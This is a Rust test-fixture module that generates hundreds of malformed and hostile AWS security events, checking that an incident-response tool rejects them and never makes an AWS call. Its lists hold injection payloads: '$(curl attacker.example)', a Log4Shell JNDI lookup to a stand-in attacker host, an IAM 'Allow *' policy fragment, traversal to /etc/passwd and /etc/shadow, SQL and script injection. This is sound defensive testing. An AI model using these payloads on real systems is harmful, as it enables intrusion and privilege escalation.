//! A corpus of hostile events, generated from the real samples: fields removed, values
//! of the wrong type, ids of the wrong form, huge strings, injection text, absurd
//! timestamps, extra fields and duplicate keys. Every event that still parses is moved
//! to an account cordon may not act in, so each one must end in a parse error naming
//! the field or a refusal — never in an AWS call.

use serde_json::{Value, json};

/// The samples the corpus is grown from: each function's event shapes.
const BASES: &[&str] = &[
    "guardduty/backdoor-c2-two-enis.json",
    "guardduty/iam-user-credential-exfiltration.json",
    "guardduty/instance-credential-exfiltration.json",
    "guardduty/lambda-c2-activity.json",
    "cloudtrail/cloudtrail-stop-logging.json",
    "cloudtrail/ec2-authorize-ssh-from-anywhere.json",
    "cloudtrail/signin-console-login-failed.json",
];

/// An account no test configuration allows.
pub const FOREIGN_ACCOUNT: &str = "999999999999";

const BAD_IDS: &[&str] = &[
    "i-../../x",
    "eni-0a1b2c3d4e5f6000g",
    "sg-",
    "AKIA../../etc/passwd",
    "12345678901",
    "1234567890123",
    "'; DROP TABLE findings; --",
    "$(curl attacker.example)",
    "\u{0}\u{1}\u{7f}",
    "",
];

const INJECTION: &[&str] = &[
    "<script>alert(1)</script>",
    "${jndi:ldap://attacker.example/a}",
    "\"},{\"Effect\":\"Allow\",\"Action\":\"*\"",
    "../../../../etc/shadow",
    "line\nbreak\r\ninjected: header",
];

/// Fields holding an id that reaches an AWS call.
const ID_FIELDS: &[&str] = &[
    "instanceId",
    "networkInterfaceId",
    "groupId",
    "vpcId",
    "subnetId",
    "accountId",
    "accessKeyId",
    "account",
    "eventID",
    "securityGroupRuleId",
    "recipientAccountId",
    "functionArn",
    "functionName",
    "role",
];

const TIME_FIELDS: &[&str] = &["time", "createdAt", "updatedAt", "eventTime"];

/// `(label, event)` pairs; at least 500 of them.
pub fn hostile_corpus() -> Vec<(String, Value)> {
    let mut corpus = Vec::new();
    for base_name in BASES {
        let base = crate::sample_event(
            base_name.split('/').next().unwrap_or_default(),
            base_name.split('/').nth(1).unwrap_or_default(),
            &[],
        );
        let mut push =
            |label: String, event: Value| corpus.push((format!("{base_name}: {label}"), event));
        for (path, leaf) in leaves(&base) {
            let at = path.join(".");
            push(format!("without {at}"), removed(&base, &path));
            push(
                format!("{at} of the wrong type"),
                replaced(&base, &path, wrong_type(&leaf)),
            );
            let key = path.last().map(String::as_str).unwrap_or_default();
            if ID_FIELDS.contains(&key) {
                for bad in BAD_IDS {
                    push(
                        format!("{at} = {bad:?}"),
                        replaced(&base, &path, json!(bad)),
                    );
                }
                push(
                    format!("{at} huge"),
                    replaced(&base, &path, json!("7".repeat(300_000))),
                );
            }
            if TIME_FIELDS.contains(&key) {
                for time in [
                    "1970-01-01T00:00:00Z",
                    "9999-12-31T23:59:59Z",
                    "yesterday",
                    "2026-02-30T25:61:00Z",
                ] {
                    push(
                        format!("{at} = {time}"),
                        replaced(&base, &path, json!(time)),
                    );
                }
            }
            if leaf.is_string()
                && (key.contains("ame") || key == "value" || key == "key" || key == "userAgent")
            {
                for text in INJECTION {
                    push(
                        format!("{at} injected"),
                        replaced(&base, &path, json!(text)),
                    );
                }
            }
        }
        push("extra fields everywhere".into(), with_extra_fields(&base));
        push("a JSON array".into(), json!([base.clone()]));
        push("a JSON string".into(), json!(base.to_string()));
        push(
            "detail null".into(),
            replaced(&base, &["detail".to_owned()], Value::Null),
        );
    }
    corpus
        .into_iter()
        .map(
            |(label, event)| match cordon_events::parse_event_value(event.clone()) {
                Ok(_) => (format!("{label} (from another account)"), foreign(event)),
                Err(_) => (label, event),
            },
        )
        .collect()
}

/// Raw texts a JSON parser must survive: duplicate keys, deep nesting, truncation.
pub fn hostile_texts() -> Vec<(String, String)> {
    let base = crate::sample_event("guardduty", "backdoor-c2-two-enis.json", &[]).to_string();
    let duplicated = base.replacen(
        "\"detail\":",
        &format!("\"account\":\"{FOREIGN_ACCOUNT}\",\"detail\":"),
        1,
    );
    vec![
        ("duplicate account key".into(), duplicated),
        ("truncated".into(), base[..base.len() / 2].to_owned()),
        (
            "deeply nested".into(),
            format!("{}1{}", "[".repeat(100_000), "]".repeat(100_000)),
        ),
        ("not JSON".into(), "\u{feff}<xml/>".into()),
        ("empty".into(), String::new()),
    ]
}

fn leaves(value: &Value) -> Vec<(Vec<String>, Value)> {
    fn walk(value: &Value, path: &mut Vec<String>, out: &mut Vec<(Vec<String>, Value)>) {
        match value {
            Value::Object(map) => {
                for (key, child) in map {
                    path.push(key.clone());
                    out.push((path.clone(), child.clone()));
                    walk(child, path, out);
                    path.pop();
                }
            }
            Value::Array(items) => {
                for (index, child) in items.iter().enumerate() {
                    path.push(index.to_string());
                    out.push((path.clone(), child.clone()));
                    walk(child, path, out);
                    path.pop();
                }
            }
            _ => {}
        }
    }
    let mut out = Vec::new();
    walk(value, &mut Vec::new(), &mut out);
    out
}

fn slot<'a>(value: &'a mut Value, path: &[String]) -> Option<&'a mut Value> {
    path.iter().try_fold(value, |at, key| match at {
        Value::Object(map) => map.get_mut(key),
        Value::Array(items) => key.parse::<usize>().ok().and_then(|i| items.get_mut(i)),
        _ => None,
    })
}

fn removed(base: &Value, path: &[String]) -> Value {
    let mut event = base.clone();
    if let Some((last, parent)) = path.split_last()
        && let Some(parent) = slot(&mut event, parent)
    {
        match parent {
            Value::Object(map) => {
                map.remove(last);
            }
            Value::Array(items) => {
                if let Ok(index) = last.parse::<usize>() {
                    items.remove(index);
                }
            }
            _ => {}
        }
    }
    event
}

fn replaced(base: &Value, path: &[String], with: Value) -> Value {
    let mut event = base.clone();
    if let Some(at) = slot(&mut event, path) {
        *at = with;
    }
    event
}

fn wrong_type(value: &Value) -> Value {
    match value {
        Value::String(_) => json!(12345),
        Value::Number(_) => json!("NaN"),
        Value::Bool(_) => json!("yes"),
        Value::Null => json!({"unexpected": true}),
        Value::Array(_) => json!({"items": "not a list"}),
        Value::Object(_) => json!(["not", "an", "object"]),
    }
}

fn with_extra_fields(base: &Value) -> Value {
    let mut event = base.clone();
    for (path, leaf) in leaves(base) {
        if leaf.is_object()
            && let Some(Value::Object(map)) = slot(&mut event, &path)
        {
            map.insert(
                "cordonUnexpected".into(),
                json!({"nested": [1, "two", null]}),
            );
        }
    }
    event
}

/// The same event from an account cordon may not act in.
fn foreign(mut event: Value) -> Value {
    fn walk(value: &mut Value) {
        match value {
            Value::Object(map) => {
                for (key, child) in map.iter_mut() {
                    if matches!(
                        key.as_str(),
                        "account" | "accountId" | "recipientAccountId" | "groupOwnerId"
                    ) && child.is_string()
                    {
                        *child = json!(FOREIGN_ACCOUNT);
                    } else {
                        walk(child);
                    }
                }
            }
            Value::Array(items) => items.iter_mut().for_each(walk),
            _ => {}
        }
    }
    walk(&mut event);
    event
}
